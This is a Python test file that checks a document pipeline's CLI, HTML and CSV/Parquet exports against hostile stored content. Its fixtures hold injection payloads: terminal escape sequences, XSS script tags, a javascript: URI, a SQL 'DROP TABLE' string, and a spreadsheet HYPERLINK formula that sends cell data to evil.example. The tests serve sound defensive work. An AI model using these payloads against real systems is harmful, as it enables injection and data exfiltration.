"""What documents hold is shown as text: it steers no terminal, runs in no page and in no spreadsheet, and no query reaches beyond the store."""

from __future__ import annotations

import csv
import pathlib

import pyarrow.parquet as pq
import pytest

from pipeline.main import main
from tests.transforms.storage.synthetic import document, extraction, mention, store

NASTY = "\x1b]0;owned\x07\x1b[2J\u202eevil\x9b31m\x08"
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def hostile(tmp_path: pathlib.Path) -> pathlib.Path:
    text = f"Drones hit Odesa. {NASTY} {SCRIPT}"
    source = document("a'; DROP TABLE x; --", text=text, title=f"{FORMULA}", source=f"-{SCRIPT}{NASTY}", uri="javascript:alert(1)")
    found = mention(source, 0, trigger="hit", trigger_start=7, trigger_end=10)
    store(tmp_path / "S", "r1", [extraction(source, found)])
    return tmp_path / "S"


def control_characters(text: str) -> set[str]:
    return {each for each in text if (not each.isprintable() and each != "\n") or each in "\u202e\u202c\u200b"}


def test_no_document_steers_the_terminal(hostile: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    for arguments in (["sql", "SELECT * FROM documents"], ["sql", "--format", "line", "SELECT * FROM documents"], ["explain", "a'; DROP TABLE x; --"]):
        assert main([*arguments, "--store", str(hostile)]) == 0
        shown = capsys.readouterr().out
        assert control_characters(shown) == set()
    assert main(["explain", NASTY, "--store", str(hostile)]) == 2
    assert control_characters(capsys.readouterr().err) == set()


def test_no_document_runs_in_a_page(hostile: pathlib.Path, tmp_path: pathlib.Path) -> None:
    page = tmp_path / "page.html"
    assert main(["explain", "a'; DROP TABLE x; --", "--store", str(hostile), "--html", str(page)]) == 0
    text = page.read_text("utf-8")
    assert "<script" not in text
    assert "<img" not in text
    assert 'href="javascript:' not in text


def test_no_cell_runs_in_a_spreadsheet(hostile: pathlib.Path, tmp_path: pathlib.Path) -> None:
    query = "SELECT title, source, -1 AS number, published_date FROM documents"
    for name, options in (("plain", []), ("raw", ["--raw"])):
        assert main(["sql", query, "--store", str(hostile), "--format", "csv", "--to", str(tmp_path / f"{name}.csv"), *options]) == 0
        assert main(["export", "--store", str(hostile), "--to", str(tmp_path / name), "--format", "csv,parquet", *options]) == 0
    with (tmp_path / "plain.csv").open(newline="", encoding="utf-8") as file:
        [row] = csv.DictReader(file)
    assert row["title"] == f"'{FORMULA}"
    assert row["source"].startswith("'-")
    assert row["number"] == "-1"
    with (tmp_path / "raw.csv").open(newline="", encoding="utf-8") as file:
        [row] = csv.DictReader(file)
    assert row["title"] == FORMULA
    for name in ("plain", "raw"):
        with (tmp_path / name / "dim_document.csv").open(newline="", encoding="utf-8") as file:
            [row] = csv.DictReader(file)
        assert row["title"] == (FORMULA if name == "raw" else f"'{FORMULA}")
        assert pq.read_table(tmp_path / name / "dim_document.parquet")["title"].to_pylist() == [FORMULA]
